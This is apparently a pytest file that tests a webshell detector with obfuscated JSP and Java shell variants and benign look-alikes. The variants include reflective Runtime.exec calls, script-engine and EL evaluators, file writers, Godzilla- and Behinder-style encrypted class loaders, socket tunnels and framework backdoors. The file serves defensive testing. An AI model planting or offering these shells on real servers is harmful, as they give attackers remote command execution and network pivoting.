"""More near variants of the JSP/Java behaviours (a second round, written against the held-out gap): class and
method names built from char arrays, byte arrays, base64 or a reversed StringBuilder, other script engines
(Nashorn, by MIME type, through the factories), other JNDI contexts, method handles, a servlet whose request
parameter has any name, file writes through a logging FileHandler, Godzilla and Behinder loaders spelled
another way, socket tunnels and SQL consoles. Each group has a benign look-alike that must stay below the
threshold. Every sample is written here."""

import pytest

from tests.unit import variant_asserts


def assert_shell(text, name="x.jsp"):
    return variant_asserts.assert_shell(text, name)


def assert_benign(text, name="x.jsp"):
    variant_asserts.assert_benign(text, name)


# --- reflection on Runtime with the names built at run time ------------------------------------------

_RT_TAIL = ' Object r = c.getMethod("getRuntime").invoke(null); c.getMethod("exec", String.class).invoke(r, request.getParameter("c")); %>'
BUILT_NAMES = {
    "vars": '<% String a = "java.lang.", b = "Run" + "time"; Class c = Class.forName(a + b);' + _RT_TAIL,
    "bytes": "<% Class c = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101}));" + _RT_TAIL,
    "base64": '<% Class c = Class.forName(new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU=")));' + _RT_TAIL,
    "reversed": '<% Class c = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString());' + _RT_TAIL,
    "method-chars": '<% Class c = Class.forName("java.lang.Runtime"); String m = new String(new char[]{\'e\',\'x\',\'e\',\'c\'});'
                    ' c.getMethod(m, String.class).invoke(c.getMethod("getRuntime").invoke(null), request.getParameter("c")); %>',
    "processbuilder": '<% Class pc = Class.forName("java.lang.Process" + "Builder"); Object pb = pc.getConstructor(String[].class)'
                      '.newInstance((Object) new String[]{"sh", "-c", request.getParameter("c")}); pc.getMethod("st" + "art").invoke(pb); %>',
    "method-handle": '<% java.lang.invoke.MethodHandles.Lookup lk = java.lang.invoke.MethodHandles.lookup(); java.lang.invoke.MethodHandle mh ='
                     ' lk.findVirtual(Class.forName("java.lang.Run"+"time"), "ex"+"ec", java.lang.invoke.MethodType.methodType(Process.class,'
                     ' String.class)); mh.invoke(Runtime.getRuntime(), request.getParameter("c")); %>',
    "find-static": '<% java.lang.invoke.MethodHandle h = java.lang.invoke.MethodHandles.lookup().findStatic(Class.forName("java.lang.Runtime"),'
                   ' "getRuntime", java.lang.invoke.MethodType.methodType(Runtime.class)); Runtime r = (Runtime) h.invoke();'
                   ' r.exec(request.getParameter("c")); %>',
    "beans-statement": '<% new java.beans.Statement(Runtime.getRuntime(), "exec", new Object[]{request.getParameter("c")}).execute(); %>',
    "unicode-escaped": '<% \\u0052untime.getRuntime().\\u0065xec(request.getParameter("c")); %>',
}


@pytest.mark.parametrize("case", sorted(BUILT_NAMES))
def test_runtime_reached_with_built_names(case):
    assert_shell(BUILT_NAMES[case])


# --- script engines, expression languages ----------------------------------------------------------

ENGINES = {
    "nashorn-factory": '<% new jdk.nashorn.api.scripting.NashornScriptEngineFactory().getScriptEngine().eval(request.getParameter("c")); %>',
    "by-mime": '<% javax.script.ScriptEngineManager m = new javax.script.ScriptEngineManager();'
               ' m.getEngineByMimeType("text/javascript").eval(request.getParameter("c")); %>',
    "factories": '<% for (javax.script.ScriptEngineFactory f : new javax.script.ScriptEngineManager().getEngineFactories()) {'
                 ' f.getScriptEngine().eval(request.getParameter("c")); break; } %>',
    "body-ioutils": '<% String body = org.apache.commons.io.IOUtils.toString(request.getInputStream(), "UTF-8");'
                    ' new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval(body); %>',
    "ognl-parse": '<% Object t = ognl.Ognl.parseExpression(request.getParameter("e")); ognl.Ognl.getValue(t, new java.util.HashMap(), (Object) null); %>',
    "jexl": '<% org.apache.commons.jexl3.JexlEngine j = new org.apache.commons.jexl3.JexlBuilder().create();'
            ' j.createExpression(request.getParameter("e")).evaluate(null); %>',
    "groovy-classloader": '<% Class g = new groovy.lang.GroovyClassLoader().parseClass(request.getParameter("s"));'
                          ' ((groovy.lang.Script) g.newInstance()).run(); %>',
    "el-script-engine": '<html>${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval(param.c)}</html>',
}


@pytest.mark.parametrize("case", sorted(ENGINES))
def test_script_and_expression_engines(case):
    assert_shell(ENGINES[case])


def test_benign_page_evaluating_its_own_script():
    assert_benign('<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");'
                  ' Object total = e.eval("1 + 2 * 3"); String name = request.getParameter("name");'
                  ' out.println(org.owasp.encoder.Encode.forHtml(name) + " " + total); %>')


# --- JNDI ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("ctx", ["javax.naming.directory.InitialDirContext", "javax.naming.ldap.InitialLdapContext"])
def test_jndi_lookup_of_a_request_name_on_a_directory_context(ctx):
    assert_shell(f'<% new {ctx}().lookup(request.getParameter("n")); %>')
    assert_shell(f'<% javax.naming.directory.DirContext d = new {ctx}(); Object o = d.lookup(request.getHeader("X-N")); %>')


def test_benign_ldap_search_with_a_request_filter_value():
    # a directory search (the base fixed, the user's name a filter value): what every login page does
    assert_benign('<% java.util.Hashtable env = new java.util.Hashtable(); env.put("java.naming.provider.url", "ldap://dc:389");'
                  ' javax.naming.directory.DirContext d = new javax.naming.directory.InitialDirContext(env);'
                  ' javax.naming.NamingEnumeration r = d.search("ou=people,dc=example,dc=org", "(uid={0})",'
                  ' new Object[]{request.getParameter("user")}, new javax.naming.directory.SearchControls()); %>')


# --- a servlet whose request has any name -------------------------------------------------------------

@pytest.mark.parametrize("reader", ["q.getReader().readLine()", "new String(q.getInputStream().readAllBytes())"])
def test_servlet_body_of_a_request_named_anything(reader):
    assert_shell("package a; import javax.servlet.http.*; public class S extends HttpServlet {"
                 " public void service(HttpServletRequest q, HttpServletResponse r) throws java.io.IOException {"
                 f' String line = {reader}; Runtime.getRuntime().exec(new String[]{{"/bin/sh","-c",line}}); }} }}', "S.java")


def test_benign_servlet_reading_its_body_and_running_a_fixed_command():
    assert_benign("""package a;
import javax.servlet.http.*;
public class Status extends HttpServlet {
  public void doPost(HttpServletRequest q, HttpServletResponse r) throws java.io.IOException {
    String json = new String(q.getInputStream().readAllBytes());
    java.util.Map m = new com.fasterxml.jackson.databind.ObjectMapper().readValue(json, java.util.Map.class);
    Process p = Runtime.getRuntime().exec(new String[] {"uptime"});
    r.getWriter().println(m.get("id") + " " + new String(p.getInputStream().readAllBytes()));
    java.net.Socket s = new java.net.Socket("metrics.internal", 2003);
    s.getOutputStream().write(("hits 1\\n").getBytes());
  }
}""", "Status.java")


# --- file writers ----------------------------------------------------------------------------------

WRITERS = {
    "fos-inline": '<% if(request.getParameter("f")!=null)(new java.io.FileOutputStream(application.getRealPath("/")'
                  '+request.getParameter("f"))).write(request.getParameter("t").getBytes()); %>',
    "logging-filehandler": '<%java.util.logging.Logger l=java.util.logging.Logger.getLogger("t");java.util.logging.FileHandler h='
                           'new java.util.logging.FileHandler(application.getRealPath("/")+request.getParameter("f"),true);'
                           'h.setFormatter(new java.util.logging.SimpleFormatter());l.addHandler(h);l.info(request.getParameter("t"));%>',
    "body-to-path": '<%@ page import="java.io.*" %><% String path = request.getParameter("path"); InputStream in = request.getInputStream();'
                    ' OutputStream o = new FileOutputStream(path); byte[] b = new byte[4096]; int n; while ((n = in.read(b)) > 0)'
                    ' o.write(b, 0, n); o.close(); %>',
}


@pytest.mark.parametrize("case", sorted(WRITERS))
def test_file_writers(case):
    assert_shell(WRITERS[case])


def test_benign_logger_with_a_fixed_file_logging_request_values():
    assert_benign('<% java.util.logging.Logger l = java.util.logging.Logger.getLogger("audit");'
                  ' l.addHandler(new java.util.logging.FileHandler("/var/log/app/audit.log", true));'
                  ' l.info("login " + request.getParameter("user")); %>')


# --- command pages spelled another way ------------------------------------------------------------------

COMMANDS = {
    "scanner-expression": '<%=new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream())'
                          '.useDelimiter("\\\\A").next()%>',
    "os-branch": '<% String c = request.getParameter("c"); String[] cmds = System.getProperty("os.name").toLowerCase().contains("win")'
                 ' ? new String[]{"cmd.exe", "/C", c} : new String[]{"/bin/sh", "-c", c}; Process p = Runtime.getRuntime().exec(cmds); %>',
    "map-values": '<% String c = ((String[]) request.getParameterMap().values().iterator().next())[0]; Runtime.getRuntime().exec(c); %>',
    "param-names": '<% java.util.Enumeration e = request.getParameterNames(); String n = (String) e.nextElement();'
                   ' Runtime.getRuntime().exec(request.getParameter(n)); %>',
    "callable": '<% final String c = request.getParameter("c"); java.util.concurrent.Executors.newSingleThreadExecutor().submit('
                'new java.util.concurrent.Callable<Object>() { public Object call() throws Exception { return Runtime.getRuntime().exec(c); } }); %>',
    "pb-branch": '<% ProcessBuilder pb; if (java.io.File.separator.equals("/")) pb = new ProcessBuilder("/bin/bash", "-c",'
                 ' request.getParameter("c")); else pb = new ProcessBuilder("cmd", "/c", request.getParameter("c")); Process p = pb.start(); %>',
    "jspx-cdata": '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page"><jsp:scriptlet><![CDATA[ String c = request.getParameter("c");'
                  ' if (c != null) { Process p = Runtime.getRuntime().exec(c); } ]]></jsp:scriptlet></jsp:root>',
}


@pytest.mark.parametrize("case", sorted(COMMANDS))
def test_command_pages(case):
    assert_shell(COMMANDS[case], "x.jspx" if case.startswith("jspx") else "x.jsp")


# --- encrypted loaders, tunnels, consoles ---------------------------------------------------------------

GODZILLA_APP = (
    '<%! String xc="3c6e0b8a9c15224a"; class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){'
    'return super.defineClass(cb, 0, cb.length);} }public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c='
    'javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));'
    'return c.doFinal(s); }catch (Exception e){return null; }}%><%try{byte[] data=new byte[Integer.parseInt(request.getHeader('
    '"Content-Length"))];java.io.InputStream inputStream= request.getInputStream();int _num=0;while ((_num+=inputStream.read(data,'
    '_num,data.length))<data.length);data=x(data, false);if (application.getAttribute("cache")==null){application.setAttribute('
    '"cache",new X(this.getClass().getClassLoader()).Q(data));}else{request.setAttribute("parameters", data);Object f=((Class)'
    'application.getAttribute("cache")).newInstance();f.equals(pageContext);response.getOutputStream().write(x(f.toString()'
    '.getBytes(), true)); } }catch (Exception e){}%>')

BEHINDER_XOR = (
    '<%@page import="java.util.*,java.io.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){'
    'return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";'
    'session.setAttribute("u",k);ByteArrayOutputStream bos=new ByteArrayOutputStream();InputStream is=request.getInputStream();'
    'byte[] buf=new byte[512];int n;while((n=is.read(buf))>0)bos.write(buf,0,n);byte[] d=Base64.getDecoder().decode('
    'bos.toByteArray());for(int i=0;i<d.length;i++){d[i]=(byte)(d[i]^k.getBytes()[i+1&15]);}new U(this.getClass()'
    '.getClassLoader()).g(d).newInstance().equals(pageContext);}%>')

XOR_UNSAFE = (
    '<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("d")); for (int i = 0; i < b.length; i++) b[i] ^= 0x55;'
    ' java.lang.reflect.Field f = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe"); f.setAccessible(true);'
    ' sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null); Class k = u.defineAnonymousClass(java.io.File.class, b, null); k.newInstance(); %>')

NET = {
    "godzilla-application-cache": GODZILLA_APP,
    "behinder-xor-body": BEHINDER_XOR,
    "xor-unsafe": XOR_UNSAFE,
    "tunna-socket": '<% String ip = request.getParameter("ip"); int port = Integer.parseInt(request.getParameter("port"));'
                    ' java.net.Socket s = new java.net.Socket(ip, port); s.getOutputStream().write(request.getInputStream().readAllBytes()); %>',
    "neoregeorg-channel": '<% String t = request.getHeader("Xgwdk"); if (t != null) { java.nio.channels.SocketChannel ch ='
                          ' java.nio.channels.SocketChannel.open(); ch.connect(new java.net.InetSocketAddress(request.getHeader("Hdlk"),'
                          ' Integer.parseInt(request.getHeader("Pndh")))); session.setAttribute("x", ch); } %>',
    "pystinger-connect": '<% String host = request.getParameter("Remoteserver"); int port = Integer.parseInt(request.getParameter("Endpoint"));'
                         ' java.net.Socket s = new java.net.Socket(); s.connect(new java.net.InetSocketAddress(host, port), 3000);'
                         ' application.setAttribute("sock", s); %>',
    "sql-execute": '<%@ page import="java.sql.*" %><% Connection c = DriverManager.getConnection(request.getParameter("url"),'
                   ' request.getParameter("u"), request.getParameter("p")); Statement st = c.createStatement();'
                   ' boolean r = st.execute(request.getParameter("q")); %>',
}


@pytest.mark.parametrize("case", sorted(NET))
def test_loaders_tunnels_consoles(case):
    assert_shell(NET[case])


def test_benign_page_decrypting_a_cookie_with_aes():
    # AES over request bytes is what session-cookie code does; nothing is defined as a class from them
    assert_benign('<%@ page import="javax.crypto.*,javax.crypto.spec.*" %><% String k = application.getInitParameter("key");'
                  ' Cipher c = Cipher.getInstance("AES"); c.init(Cipher.DECRYPT_MODE, new SecretKeySpec(k.getBytes(), "AES"));'
                  ' byte[] v = c.doFinal(java.util.Base64.getDecoder().decode(request.getCookies()[0].getValue()));'
                  ' session.setAttribute("user", new String(v)); %>')


def test_benign_page_checking_a_backend_port():
    assert_benign('<% java.net.Socket s = new java.net.Socket(); s.connect(new java.net.InetSocketAddress("db.internal", 5432), 500);'
                  ' out.println("db up " + request.getParameter("probe")); s.close(); %>')


# --- more interpreters, reflection loops, writers ----------------------------------------------------

MORE = {
    "exec-with-dir": '<% Process p = Runtime.getRuntime().exec(request.getParameter("c"), null, new java.io.File(request.getParameter("d"))); %>',
    "jython": '<% new org.python.util.PythonInterpreter().exec(request.getParameter("c")); %>',
    "beanshell": '<% new bsh.Interpreter().eval(request.getParameter("c")); %>',
    "elprocessor-getvalue": '<% new javax.el.ELProcessor().getValue(request.getParameter("e"), Object.class); %>',
    "methods-loop": '<% for (java.lang.reflect.Method m : Runtime.class.getMethods()) { if (m.getName().equals("exec") &&'
                    ' m.getParameterTypes().length == 1 && m.getParameterTypes()[0] == String.class) {'
                    ' m.invoke(Runtime.getRuntime(), request.getParameter("c")); break; } } %>',
    "context-loadclass": '<% Class c = Thread.currentThread().getContextClassLoader().loadClass("java.lang.Runtime");' + _RT_TAIL,
    "files-copy-body": '<% java.nio.file.Files.copy(request.getInputStream(), java.nio.file.Paths.get(request.getParameter("p"))); %>',
    "printstream": '<% java.io.PrintStream ps = new java.io.PrintStream(new java.io.FileOutputStream(request.getParameter("p")));'
                   ' ps.print(request.getParameter("d")); ps.close(); %>',
    "bufferedwriter": '<% java.io.BufferedWriter w = new java.io.BufferedWriter(new java.io.OutputStreamWriter(new java.io.FileOutputStream('
                      'application.getRealPath("/") + request.getParameter("f")), "UTF-8")); w.write(request.getParameter("t")); w.close(); %>',
    "deferred-el": '<html>#{"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(param.c)}</html>',
    "sun-base64": '<% String c = new String(new sun.misc.BASE64Decoder().decodeBuffer(request.getParameter("c"))); Runtime.getRuntime().exec(c); %>',
    "cookie-header": '<% Runtime.getRuntime().exec(java.net.URLDecoder.decode(request.getHeader("Cookie").split("=")[1], "UTF-8")); %>',
}


@pytest.mark.parametrize("case", sorted(MORE))
def test_more_interpreters_and_writers(case):
    assert_shell(MORE[case])


def test_benign_page_reflecting_over_its_own_bean():
    assert_benign('<% Object bean = session.getAttribute("form"); for (java.lang.reflect.Method m : bean.getClass().getMethods()) {'
                  ' if (m.getName().equals("set" + request.getParameter("field"))) { m.invoke(bean, request.getParameter("value")); } } %>')


# --- file managers, frameworks, helpers -----------------------------------------------------------------

FRAMEWORK = {
    "nio-file-manager": ("x.jsp", '<%@ page import="java.nio.file.*" %><% Path d = Paths.get(request.getParameter("d"));'
                                  ' if (request.getParameter("del") != null) Files.delete(d.resolve(request.getParameter("del")));'
                                  ' try (java.util.stream.Stream<Path> s = Files.list(d)) { s.forEach(p -> { try { out.println(p.getFileName());'
                                  ' } catch (Exception e) {} }); } if (request.getParameter("read") != null)'
                                  ' out.print(new String(Files.readAllBytes(d.resolve(request.getParameter("read"))))); %>'),
    "pb-command-add": ("x.jsp", '<% ProcessBuilder pb = new ProcessBuilder(); pb.command().add("sh"); pb.command().add("-c");'
                                ' pb.command().add(request.getParameter("c")); pb.start(); %>'),
    "exec-list-array": ("x.jsp", '<% java.util.List<String> l = new java.util.ArrayList<>(); l.add("sh"); l.add("-c");'
                                 ' l.add(request.getParameter("c")); Runtime.getRuntime().exec(l.toArray(new String[0])); %>'),
    "spring-map": ("C.java", 'package x; import org.springframework.web.bind.annotation.*; @RestController public class C {'
                             ' @PostMapping("/z") public String z(@RequestParam java.util.Map<String, String> m) throws Exception {'
                             ' return new String(new ProcessBuilder("sh", "-c", m.get("c")).start().getInputStream().readAllBytes()); } }'),
    "spring-interceptor": ("I.java", 'package x; import javax.servlet.http.*; public class I implements org.springframework.web.servlet'
                                     '.HandlerInterceptor { public boolean preHandle(HttpServletRequest request, HttpServletResponse response,'
                                     ' Object handler) throws Exception { String c = request.getParameter("cmd"); if (c != null) {'
                                     ' response.getWriter().write(new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream())'
                                     '.useDelimiter("\\\\A").next()); return false; } return true; } }'),
    "websocket-endpoint": ("W.java", 'package x; import javax.websocket.*; public class W extends Endpoint implements MessageHandler.Whole<String> {'
                                     ' private Session s; public void onOpen(Session s, EndpointConfig c) { this.s = s; s.addMessageHandler(this); }'
                                     ' public void onMessage(String m) { try { Process p = Runtime.getRuntime().exec(m);'
                                     ' s.getBasicRemote().sendText(new String(p.getInputStream().readAllBytes())); } catch (Exception e) {} } }'),
    "struts-action": ("A.java", 'package x; public class A extends com.opensymphony.xwork2.ActionSupport { public String execute() throws Exception {'
                                ' String c = org.apache.struts2.ServletActionContext.getRequest().getParameter("c"); Runtime.getRuntime().exec(c);'
                                ' return SUCCESS; } }'),
    "el-processbuilder": ("x.jsp", '<html>${pageContext.request.getSession().getServletContext().getClassLoader().loadClass('
                                   '"java.lang.ProcessBuilder").getConstructor("".getClass().forName("[Ljava.lang.String;"))'
                                   '.newInstance(param.c.split(",")).start()}</html>'),
    "declared-helper": ("x.jsp", '<%! String run(String c) throws Exception { Process p = Runtime.getRuntime().exec(c);'
                                 ' return new String(p.getInputStream().readAllBytes()); } %><%= run(request.getParameter("c")) %>'),
    "hex-helper": ("x.jsp", '<%! String h(String s) { StringBuilder b = new StringBuilder(); for (int i = 0; i < s.length(); i += 2)'
                            ' b.append((char) Integer.parseInt(s.substring(i, i + 2), 16)); return b.toString(); } %>'
                            '<% Runtime.getRuntime().exec(h(request.getParameter("x"))); %>'),
}


@pytest.mark.parametrize("case", sorted(FRAMEWORK))
def test_file_managers_frameworks_helpers(case):
    name, text = FRAMEWORK[case]
    assert_shell(text, name)


def test_benign_page_serving_a_document_by_name():
    assert_benign('<%@ page import="java.nio.file.*" %><% Path base = Paths.get(application.getRealPath("/docs"));'
                  ' Path p = base.resolve(request.getParameter("f")).normalize(); if (!p.startsWith(base)) { response.sendError(404); return; }'
                  ' response.getOutputStream().write(Files.readAllBytes(p)); %>')
